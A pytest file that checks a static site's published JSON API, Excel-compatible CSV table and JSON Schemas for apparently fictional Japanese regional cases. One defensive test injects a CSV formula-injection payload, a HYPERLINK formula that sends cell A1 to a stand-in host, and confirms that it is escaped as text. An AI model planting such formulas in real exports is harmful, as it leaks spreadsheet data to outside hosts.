"""The published data: the static API, the table for spreadsheets, and the JSON Schemas."""

import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any

import pytest
from check_jsonschema import main as check_jsonschema_main  # type: ignore[import-untyped]

from generator.model import KINDS, SECTIONS
from generator.telling.exports import json_schemas, neutralise
from generator.writing.sizes import in_words
from tests.built import CONTENT, pages_of, read_html
from tests.door import ROOT, TOY, kb, toy_with

COMMITTED = ROOT / "generator" / "data" / "schema"


@pytest.fixture(scope="module")
def site(toy_site: Path) -> Path:
    return toy_site


def data(site: Path, name: str) -> Any:
    return json.loads((site / "api" / "v1" / name).read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def cases(site: Path) -> dict[str, Any]:
    return {case["id"]: case for case in data(site, "cases.json")["cases"]}


def test_every_case_is_there_north_to_south(cases: dict[str, Any]) -> None:
    assert list(cases) == ["urakawa", "sado", "shimoda-higashimatsushima"]


def test_a_case_says_who_and_where(cases: dict[str, Any], site: Path) -> None:
    case = cases["urakawa"]
    assert case["title"] == "浦河町｜うらかわ架空コンソーシアム"
    assert case["url"] == "cases/urakawa/"
    assert (site / case["url"] / "index.html").is_file()
    assert case["round"] == 1
    assert case["consortium"]["name"] == "うらかわ架空コンソーシアム"
    assert case["monitor_tour"]["held"] is True
    area = case["areas"][0]
    assert (area["prefecture"], area["municipality"], area["code"]) == (
        "北海道",
        "浦河町",
        "016071",
    )
    assert len(cases["shimoda-higashimatsushima"]["areas"]) == 2


def test_themes_and_challenges_carry_label_and_basis(cases: dict[str, Any]) -> None:
    case = cases["urakawa"]
    assert [theme["id"] for theme in case["themes"]] == ["education", "work"]
    education = case["themes"][0]
    assert education["label"] == "教育/保育"
    assert [(basis["kind"], basis["cell"]) for basis in education["basis"]] == [
        ("matrix", 5),
        ("chapter", None),
    ]
    assert education["basis"][1]["source"] == {
        "id": "003/theme-education",
        "label": "試験用の事例集（架空）｜教育/保育の章",
    }
    assert [challenge["id"] for challenge in case["challenges"]] == ["cost"]
    assert case["unlabelled_mark"] is True


def test_what_is_unknown_is_null_and_not_left_out(cases: dict[str, Any]) -> None:
    case = cases["sado"]
    assert case.keys() == cases["urakawa"].keys()
    assert case["monitor_tour"] is None
    assert case["summary"] is None
    assert [section["id"] for section in case["sections"]] == list(SECTIONS)
    assert all(section["statements"] is None for section in case["sections"])
    assert case["themes"] == case["challenges"] == []


def test_every_statement_says_where_it_is_from(cases: dict[str, Any]) -> None:
    found = 0
    for case in cases.values():
        for section in case["sections"]:
            for statement in section["statements"] or ():
                assert statement["text"]
                own = f"{case['id']}/report"
                assert re.fullmatch(rf"003/[a-z0-9-]+|{own}", statement["source"]["id"])
                assert re.match(
                    "(試験用の事例集|二つの港町の作業場所の記録)（架空）｜",
                    statement["source"]["label"],
                )
                found += 1
    assert found == 11


def test_each_case_has_a_file_of_its_own(cases: dict[str, Any], site: Path) -> None:
    files = {path.stem for path in (site / "api" / "v1" / "cases").iterdir()}
    assert files == set(cases) | {"urakawa-cho"}
    for name, case in cases.items():
        assert data(site, f"cases/{name}.json") == case
    assert data(site, "cases/urakawa-cho.json") == cases["urakawa"], "a former id"


def test_subcommittees_and_themes_are_published(site: Path) -> None:
    subcommittee = data(site, "subcommittees.json")["subcommittees"][0]
    assert subcommittee["name"] == "架空の二拠点就学部会"
    assert subcommittee["cases"] == ["urakawa"]
    themes = data(site, "themes.json")
    work = next(theme for theme in themes["themes"] if theme["id"] == "work")
    assert [(case["id"], case["basis"][0]["kind"]) for case in work["cases"]] == [
        ("urakawa", "matrix"),
        ("shimoda-higashimatsushima", "chapter"),
    ]
    assert [challenge["id"] for challenge in themes["challenges"]] == ["cost"]


def test_everything_published_says_on_which_page_it_is(site: Path) -> None:
    told = 0
    for kind in KINDS.values():
        for one in data(site, f"{kind.id}.json")[kind.id]:
            url, _, anchor = one["url"].partition("#")
            page = read_html((site / url / "index.html").read_text(encoding="utf-8"))
            assert not anchor or anchor in page.ids, one["url"]
            told += 1
    assert told >= 30


def test_every_download_offered_is_there_and_no_page_breaks_without_one(site: Path) -> None:
    page = read_html((site / "data" / "index.html").read_text(encoding="utf-8"))
    offered = [link for link in page.links if re.search(r"\.(json|csv|zip|xml|xlsx|bib)$", link)]
    assert len(offered) >= 5
    assert [link for link in offered if not (site / "data" / link).resolve().is_file()] == []


# The table


def raw_table(site: Path) -> bytes:
    return (site / "api" / "v1" / "cases.csv").read_bytes()


def table(raw: bytes) -> list[dict[str, str]]:
    text = raw.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_table_is_one_that_excel_opens(site: Path) -> None:
    raw = raw_table(site)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    records = re.sub(rb'"(?:[^"]|"")*"', b"", raw.removeprefix(b"\xef\xbb\xbf"))
    assert records.replace(b",", b"") == b"\r\n" * 4  # every cell quoted, every record CRLF
    assert b"\r" not in re.sub(rb"\r\n", b"", raw)


def test_the_table_says_what_the_api_says(site: Path, cases: dict[str, Any]) -> None:
    rows = table(raw_table(site))
    assert [row["id"] for row in rows] == list(cases)
    for row in rows:
        case = cases[row["id"]]
        assert row["事例"] == case["title"]
        assert row["コンソーシアム名"] == case["consortium"]["name"]
        assert row["採択次"] == f"{case['round']}次"
        codes = [area["code"] for area in case["areas"]]
        assert row["団体コード"].split("；") == codes
        for section in case["sections"]:
            told = [statement["text"] for statement in section["statements"] or ()]
            assert row[section["label"]] == ("\n".join(told) or "情報未収集")


def test_the_table_tells_a_case_in_the_order_of_its_page(site: Path) -> None:
    """Which case it is, its story, then what stands beside it; the names of the columns are promised."""
    (columns, *_) = csv.reader(io.StringIO(raw_table(site).decode("utf-8-sig"), newline=""))
    which = [
        "id",
        "事例",
        "採択次",
        "都道府県",
        "市区町村",
        "団体コード",
        "地域と団体コード",
        "読み",
    ]
    story = ["要約", "一覧表のテーマ", "解決しようとした地域課題", *SECTIONS.values()]
    beside = ["モニターツアー", "国の3課題", "取組テーマ", "専門部会", "問い合わせ窓口"]
    assert columns[:-2] == [*which, "コンソーシアム名", *story, *beside]
    assert columns[-2:] == ["最終確認日", "ページ"]


def test_codes_keep_their_zeros_even_where_a_spreadsheet_reads_numbers(site: Path) -> None:
    row = table(raw_table(site))[0]
    assert row["団体コード"] == "016071"
    assert (
        row["地域と団体コード"] == "北海道浦河町［016071］"
    )  # no spreadsheet takes it for a number


def test_no_cell_that_says_something_is_empty(site: Path) -> None:
    may_be_empty = {"専門部会", "市区町村"}  # in none; the whole prefecture
    for row in table(raw_table(site)):
        empty = {name for name, cell in row.items() if not cell}
        assert empty <= may_be_empty, row["id"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r"])
def test_no_cell_starts_a_formula(start: str) -> None:
    assert neutralise(start + "1+1") == f"'{start}1+1"
    assert neutralise("1" + start) == "1" + start


def test_formulas_of_an_entry_reach_the_table_as_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://x.example/?"&A1)'
    text = (TOY / "cases" / "sado.yml").read_text(encoding="utf-8")
    text = text.replace("place: 佐渡市", "place: ＝1+1佐渡").replace(
        "name: さど架空協議会", f"name: '{hostile}'"
    )
    site = pages_of(toy_with(tmp_path, {"cases/sado.yml": text}) / "content", tmp_path / "site")
    row = next(row for row in table(raw_table(site)) if row["id"] == "sado")
    assert row["コンソーシアム名"] == "'" + hostile
    assert row["事例"] == f"'＝1+1佐渡｜{hostile}"
    formula = re.compile(r"[=+\-@＝＋－＠\t\r]")
    for one in table(raw_table(site)):
        assert [cell for cell in one.values() if formula.match(cell)] == []


# The schemas


@pytest.fixture(scope="module")
def schemas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("schemas")
    assert kb("schema", "--to", folder).code == 0
    return folder


def test_the_committed_schemas_are_those_of_the_models(schemas: Path) -> None:
    made = {path.name: path.read_text(encoding="utf-8") for path in schemas.iterdir()}
    kept = {path.name: path.read_text(encoding="utf-8") for path in COMMITTED.iterdir()}
    assert made == kept, "run: make schema"


def test_the_site_publishes_the_schemas(site: Path) -> None:
    for kind, text in json_schemas().items():
        assert (site / "schema" / f"{kind}.schema.json").read_text(encoding="utf-8") == text


def check_jsonschema(*arguments: str | Path) -> tuple[int, str]:
    """The exit code of the program, and what it printed."""
    out = io.StringIO()
    with redirect_stdout(out), pytest.raises(SystemExit) as done:
        check_jsonschema_main(list(map(str, arguments)))
    return int(done.value.code or 0), out.getvalue()


def test_the_schemas_are_valid_and_of_the_version_they_name(schemas: Path) -> None:
    files = sorted(schemas.glob("*.schema.json"))
    for file in files:
        schema = json.loads(file.read_text(encoding="utf-8"))
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    code, told = check_jsonschema("--check-metaschema", *files)
    assert code == 0, told


@pytest.mark.parametrize("kind", KINDS)
def test_the_schemas_accept_every_entry(kind: str, schemas: Path) -> None:
    files = [file for folder in (CONTENT, TOY) for file in sorted((folder / kind).glob("*.yml"))]
    if files:
        code, told = check_jsonschema("--schemafile", schemas / f"{kind}.schema.json", *files)
        assert code == 0, told


@pytest.mark.parametrize(
    ("right", "wrong"),
    [
        ('code: "152242"', 'code: "15224"'),
        ("summary: null", "summary: 佐渡市の取組"),
        ("place: 佐渡市", "place: 佐渡市\nplaces: 佐渡市"),
        ("reading: さどし", "reading: 佐渡市"),
        ("  funding: null\n", ""),
    ],
)
def test_the_schema_of_cases_refuses_what_is_wrong(
    right: str, wrong: str, schemas: Path, tmp_path: Path
) -> None:
    text = (TOY / "cases" / "sado.yml").read_text(encoding="utf-8")
    assert right in text
    (tmp_path / "sado.yml").write_text(text.replace(right, wrong), encoding="utf-8")
    schema = schemas / "cases.schema.json"
    code, told = check_jsonschema("--schemafile", schema, tmp_path / "sado.yml")
    assert code == 1
    assert "sado.yml" in told


def descriptions(schema: object) -> Iterator[str]:
    if isinstance(schema, dict):
        if isinstance(schema.get("description"), str):
            yield schema["description"]
        schema = list(schema.values())
    if isinstance(schema, list):
        for part in schema:
            yield from descriptions(part)


def test_editors_show_what_to_write_in_japanese() -> None:
    schemas = {kind: json.loads(text) for kind, text in json_schemas().items()}
    case = schemas["cases"]
    described = {name for name, field in case["properties"].items() if field.get("description")}
    assert {"id", "place", "round", "monitor_tour", "summary", "confirmed_on"} <= described
    sections = case["$defs"]["Sections"]["properties"]
    for name, label in SECTIONS.items():
        assert sections[name]["title"] == label
        assert len(sections[name]["description"]) > len(label)
    for kind, schema in schemas.items():
        assert "アドレスになります" in schema["properties"]["id"]["description"], kind
        assert [text for text in descriptions(schema) if not re.search(r"[ぁ-ん一-龠]", text)] == []


@pytest.mark.parametrize(
    ("size", "words"),
    [(0, "1KB"), (999, "1KB"), (1_500, "2KB"), (213_499, "213KB"), (949_000, "949KB"),
     (951_000, "1.0MB"), (1_750_000, "1.8MB"), (47_123_456, "47.1MB")],
)  # fmt: skip
def test_sizes_are_told_as_people_say_them(size: int, words: str) -> None:
    assert in_words(size) == words
